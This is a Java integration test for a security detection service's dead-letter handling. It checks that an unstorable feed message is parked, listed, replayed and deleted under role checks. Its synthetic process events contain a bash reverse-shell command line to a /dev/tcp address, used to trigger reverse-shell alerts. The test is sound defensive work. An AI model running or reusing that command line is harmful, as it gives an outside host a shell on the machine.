package io.vigil.detection.deadletters;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.vigil.contracts.feed.EventFeed;
import io.vigil.contracts.feed.FeedBatch;
import io.vigil.contracts.feed.FeedEvent;
import io.vigil.contracts.feed.FeedMessage;
import io.vigil.testing.TestDatabase;
import io.vigil.testing.TestHub;
import io.vigil.testing.TestMqttClient;
import io.vigil.testing.TestTokens;
import io.vigil.testing.VigilTestResource;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;

/**
 * A feed message that detection can never store (PostgreSQL refuses a NUL character in text) is parked as a dead
 * letter after its retries instead of blocking its lane; the messages published after it are handled; operators
 * list it, read its bytes and replay it.
 */
@QuarkusTest
@QuarkusTestResource(VigilTestResource.class)
class PoisonFeedMessageTest {

    private static final ObjectMapper JSON = TestHub.JSON;
    private static final Duration PATIENCE = Duration.ofSeconds(60);
    private static TestMqttClient ingest;

    @BeforeAll
    static void connect() {
        ingest = TestMqttClient.connect();
    }

    @AfterAll
    static void disconnect() {
        ingest.close();
    }

    @Test
    void aMessageThatAlwaysFailsIsParkedAloneAndTheOthersMoveOn() throws Exception {
        String poisonTopic = EventFeed.topic("vigil-hub");
        // The poison message shares its feed batch with good ones: only it is parked, they are detected on.
        ingest.publish(poisonTopic, JSON.writeValueAsBytes(FeedBatch.of(message("beside-poison-1", UUID.randomUUID().toString()),
                poison("poison-1", "bad\u0000event-id"), message("beside-poison-2", UUID.randomUUID().toString()))));
        for (int i = 0; i < 20; i++) {
            ingest.publish(poisonTopic, JSON.writeValueAsBytes(FeedBatch.of(message("after-poison-" + i, UUID.randomUUID().toString()))));
        }

        await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM workspace.security_alert"
                + " WHERE device_id LIKE 'after-poison-%' AND alert_type = 'IoT_ReverseShell'") == 20);
        await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM workspace.security_alert"
                + " WHERE device_id LIKE 'beside-poison-%' AND alert_type = 'IoT_ReverseShell'") == 2);
        await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM detection.dead_letter WHERE topic = ?",
                poisonTopic) == 1);
        Map<String, Object> parked = TestDatabase.query("SELECT id, consumer, reason, attempts, payload FROM detection.dead_letter WHERE topic = ?",
                poisonTopic).get(0);
        assertThat(parked.get("consumer")).isEqualTo("detection-feed");
        assertThat((String) parked.get("reason")).containsAnyOf("22021", "22P05");
        assertThat((Integer) parked.get("attempts")).isGreaterThanOrEqualTo(5);
        assertThat(JSON.readTree((byte[]) parked.get("payload")).path("messages")).singleElement()
                .satisfies(alone -> assertThat(alone.path("deviceId").asText()).isEqualTo("poison-1"));
        long id = ((Number) parked.get("id")).longValue();

        given().auth().oauth2(TestTokens.operator()).get("/admin/dead-letters")
                .then().statusCode(200).body("value.find { it.id == " + id + " }.topic", equalTo(poisonTopic));
        byte[] body = given().auth().oauth2(TestTokens.operator()).get("/admin/dead-letters/" + id + "/body")
                .then().statusCode(200).header("X-Vigil-Topic", poisonTopic).extract().asByteArray();
        assertThat(JSON.readTree(body).at("/messages/0/events/0/id").asText()).isEqualTo("bad\u0000event-id");
        given().auth().oauth2(TestTokens.reader()).get("/admin/dead-letters").then().statusCode(403);
        given().auth().oauth2(TestTokens.scopedTo(List.of(TestHub.NAME), "operator")).get("/admin/dead-letters").then().statusCode(403);
        given().auth().oauth2(TestTokens.operator()).post("/admin/dead-letters/" + id + "/replay").then().statusCode(403);

        // Replayed, it goes through the consumers again, still fails, and is parked anew.
        given().auth().oauth2(TestTokens.admin()).post("/admin/dead-letters/" + id + "/replay")
                .then().statusCode(200).body("outcome", equalTo("republished"));
        assertThat(TestDatabase.count("SELECT count(*) FROM detection.dead_letter WHERE id = ?", id)).isZero();
        await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM detection.dead_letter WHERE topic = ?",
                poisonTopic) == 1);
        long again = ((Number) TestDatabase.query("SELECT id FROM detection.dead_letter WHERE topic = ?", poisonTopic).get(0).get("id"))
                .longValue();
        given().auth().oauth2(TestTokens.admin()).delete("/admin/dead-letters/" + again).then().statusCode(204);
        given().auth().oauth2(TestTokens.admin()).delete("/admin/dead-letters/" + again).then().statusCode(404);
    }

    /** PostgreSQL refuses NUL in text and jsonb: the alert on this reverse shell can never be stored. */
    private static FeedMessage poison(String device, String eventId) {
        return message(device, eventId, "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 \u0000");
    }

    private static FeedMessage message(String device, String eventId) {
        return message(device, eventId, "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1");
    }

    private static FeedMessage message(String device, String eventId, String commandLine) {
        Instant at = Instant.now().minusSeconds(10);
        ObjectNode item = JSON.createObjectNode().put("Executable", "/bin/bash").put("CommandLine", commandLine)
                .put("ProcessId", 4000).put("ParentProcessId", 1).put("UserId", "0").put("UserName", "root");
        FeedEvent event = new FeedEvent(eventId, "ProcessCreate", "Triggered", "Security", false, at, at.toString(), List.of(item));
        return new FeedMessage(TestHub.RESOURCE_ID, device, null, "agent", "1.0", Instant.now(), List.of(event));
    }
}
